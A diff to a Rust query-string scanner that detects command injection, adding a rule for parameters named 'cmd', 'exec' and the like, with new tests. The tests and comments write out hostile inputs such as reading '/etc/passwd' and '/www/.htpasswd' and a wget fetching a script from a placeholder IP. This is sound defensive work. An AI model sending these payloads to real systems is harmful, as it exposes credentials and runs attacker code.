@@ -44,12 +44,24 @@ pub(super) fn is_command_line(query: &str) -> bool {
 /// argument (`ip=127.0.0.1;cat /etc/passwd`, `q=x|sleep 5`). Lists and prose are not:
 /// `fields=name;id;email` (the separator is inside the value, nothing follows the command),
 /// `q=rock; cat power` (a word, not a path, option, number or file).
+///
+/// A parameter named for a command (`cmd=`, `command=`, `exec=`: [`COMMAND_PARAMETERS`]) whose
+/// value is a command line ([`is_command_line`]) is one too: device CGIs that run what they are
+/// given (`setup.cgi?todo=syscmd&cmd=cat /www/.htpasswd`) need no separator. A search for
+/// `uname -a` (`q=`) is not.
 pub(super) fn has_injected_command(query: &str) -> bool {
-    query
-        .split('&')
-        .map(|param| param.split_once('=').map_or(param, |(_, v)| v))
-        .any(injects_command)
+    query.split('&').any(|param| match param.split_once('=') {
+        Some((name, value)) => {
+            injects_command(value)
+                || (COMMAND_PARAMETERS.iter().any(|p| p.eq_ignore_ascii_case(name.trim()))
+                    && is_command_line(value))
+        }
+        None => injects_command(param),
+    })
 }
+
+/// Parameter names that say their value is a command to run.
+const COMMAND_PARAMETERS: &[&str] = &["cmd", "command", "exec", "execute", "shell"];
 
 /// Whether one parameter value injects a command (see [`has_injected_command`]).
 ///
@@ -213,6 +225,9 @@ mod tests {
             "q=x`wget http://198.51.100.1/x`;",
             "q=`cat /etc/passwd`",
             "ip=1.1.1.1; ping -c 3 198.51.100.1",
+            "next_file=netgear.cfg&todo=syscmd&cmd=cat /www/.htpasswd&curpath=/",
+            "CMD=uname -a",
+            "exec=wget http://198.51.100.1/x.sh",
         ] {
             assert!(has_injected_command(q), "{q}");
         }
@@ -253,6 +268,10 @@ mod tests {
             "q=`sleep 5` in script",
             "q=`id` column",
             "q=foo `sleep 10` bar",
+            "q=uname -a",
+            "q=cat /etc/passwd",
+            "cmd=list&page=2",
+            "command=echo hello",
             "",
         ] {
             assert!(!has_injected_command(q), "{q}");
